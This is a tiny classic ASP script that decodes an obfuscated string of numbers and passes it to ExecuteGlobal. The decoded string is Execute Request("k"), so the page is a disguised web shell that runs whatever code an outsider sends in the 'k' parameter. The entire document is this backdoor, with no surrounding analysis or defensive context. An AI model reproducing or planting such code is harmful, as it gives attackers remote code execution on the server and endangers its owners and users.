<%
Function unpack(s)
    Dim parts, i, out
    parts = Split(s, "%")
    For i = 1 To UBound(parts)
        out = out & Chr(CInt(parts(i)) - 41)
    Next
    unpack = out
End Function
ExecuteGlobal unpack("%110%161%142%140%158%157%142%73%123%142%154%158%142%156%157%81%75%148%75%82")
%>
